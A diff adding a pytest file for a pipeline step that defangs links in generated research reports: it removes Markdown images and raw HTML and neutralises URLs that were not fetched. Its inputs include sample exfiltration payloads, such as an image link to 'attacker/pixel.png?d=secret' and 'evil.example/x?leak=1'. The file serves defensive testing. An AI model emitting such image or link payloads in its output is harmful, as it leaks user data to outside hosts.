@@ -1,0 +1,48 @@
+"""The last pass over a report's links (pipeline/research/steps/defang.py): only fetched pages stay linked, images
+and raw HTML never reach a Markdown viewer, and citations, numbers and the question's own URLs are untouched."""
+from __future__ import annotations
+
+from pipeline.research.steps.defang import defang, defanged_url
+
+FETCHED = ["https://qdrant.tech/pricing/", "https://docs.example.org/a?b=1"]
+
+
+def test_an_image_is_removed_whatever_its_target() -> None:
+    body = ("Intro ![status](http://attacker/pixel.png?d=secret) and ![](https://qdrant.tech/pricing/) and "
+            "![ref][img] [F1].")
+    out = defang(body, FETCHED)
+    assert "![" not in out and "attacker" not in out
+    assert "status (image removed)" in out and "image (image removed)" in out and "ref (image removed)" in out
+
+
+def test_links_to_fetched_pages_stay_and_others_keep_only_their_text() -> None:
+    body = ("Prices start at $25 [F1] ([pricing](https://qdrant.tech/pricing), "
+            "[docs](<https://docs.example.org/a?b=1> \"title\")); see [more](https://evil.example/x?leak=1) [F2].")
+    out = defang(body, FETCHED)
+    assert "[pricing](https://qdrant.tech/pricing)" in out  # a trailing slash is the same page
+    assert "[docs](<https://docs.example.org/a?b=1> \"title\")" in out
+    assert "see more [F2]" in out and "evil.example" not in out
+    assert "$25 [F1]" in out
+
+
+def test_bare_and_angle_urls_that_were_not_fetched_are_defanged() -> None:
+    body = "Read https://evil.example/a. Or <http://evil.example/b>, or https://qdrant.tech/pricing/ [F1]."
+    out = defang(body, FETCHED)
+    assert "hxxps://evil[.]example/a." in out and "hxxp://evil[.]example/b," in out
+    assert "https://qdrant.tech/pricing/ [F1]" in out and "<http" not in out
+    assert defanged_url("https://a.b.example/p.q") == "hxxps://a[.]b[.]example/p.q"
+
+
+def test_raw_html_and_reference_definitions_are_neutralised() -> None:
+    body = ('Text <img src="http://attacker/i.png"> <a href="http://attacker">x</a> [F1].\n'
+            "[ok]: https://qdrant.tech/pricing/\n[bad]: http://attacker.example/c \"t\"\n"
+            '[<b>label</b>](https://qdrant.tech/pricing/)')
+    out = defang(body, FETCHED)
+    assert "<img" not in out and "<a " not in out and "&lt;img" in out and "&lt;a href" in out
+    assert "[ok]: https://qdrant.tech/pricing/" in out and "[bad]:" not in out
+    assert "[&lt;b>label&lt;/b>](https://qdrant.tech/pricing/)" in out  # a kept link's text is escaped too
+
+
+def test_the_questions_own_urls_and_plain_text_are_untouched() -> None:
+    body = "Is https://asked.example/page still up? 5 < 7 and x<3 [G1]."
+    assert defang(body, [*FETCHED, "https://asked.example/page"]) == body
